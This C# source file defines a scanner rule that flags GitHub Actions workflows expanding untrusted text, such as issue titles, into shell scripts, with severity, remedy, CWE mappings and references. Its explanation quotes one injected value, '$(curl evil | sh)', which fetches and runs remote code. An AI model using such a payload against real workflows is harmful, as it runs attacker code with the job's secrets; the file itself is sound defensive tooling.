using Myelin.Core.Findings;

namespace Myelin.Assess.Checks.Workflows;

/// <summary>Foreign text expanded into a script before a shell reads it, through outputs, environment and inputs if need be.</summary>
public sealed class TemplateInjection : PipelineCheck
{
    public override CheckInfo Info { get; } = new("gha/template-injection", Severity.High, "Text that strangers write is expanded into a script")
    {
        Why = "An expression is replaced by its value before the shell or interpreter starts: a title such as $(curl evil | sh) is then part of the program, whatever quotes stand around it. It runs with the job's token and secrets.",
        Fix = "Hand the value over in env and use it as a quoted variable: env: TITLE: ${{ github.event.issue.title }}, then \"$TITLE\". In github-script read process.env or context.payload.",
        Mappings = ["CWE-94", "CWE-78", "CICD-SEC-4"],
        Incidents = ["hackerbot-claw", "ultralytics"],
        References = ["https://docs.github.com/en/actions/concepts/security/script-injections", "https://securitylab.github.com/resources/github-actions-untrusted-input/"],
    };

    public override IEnumerable<Finding> Inspect(Pipeline document) =>
        from sink in document.Sinks
        where sink.Kind is SinkKind.Script or SinkKind.CodeInput or SinkKind.ShellEval or SinkKind.Image
        select Found(sink, $"{sink.Way}: {sink.Exposure.Text}");
}
